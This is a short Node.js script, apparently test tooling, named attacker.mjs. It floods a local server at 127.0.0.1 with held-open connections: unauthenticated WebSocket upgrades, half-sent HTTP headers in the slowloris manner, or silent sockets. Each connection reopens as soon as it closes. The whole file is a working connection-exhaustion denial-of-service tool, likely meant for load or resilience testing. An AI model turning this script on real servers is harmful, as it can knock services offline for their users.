// Holds connections open without a token, and opens each again as soon as it is closed.
// usage: node attacker.mjs PORT COUNT KIND PAUSE_MS
import { connect } from 'node:net';

const TEXTS = {
  sockets:
    'GET /api HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
    'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  'half-sent': 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ',
  silent: '',
};
const [, , port, count, kind, pauseMs] = process.argv;
let opened = 0;

function hold() {
  const socket = connect(Number(port), '127.0.0.1', () => {
    opened++;
    // Whoever started this waits until all have been there.
    if (opened === Number(count)) process.stdout.write('there\n');
    socket.write(TEXTS[kind]);
  });
  socket.on('data', () => {});
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(hold, Number(pauseMs)));
}

for (let n = 0; n < Number(count); n++) hold();
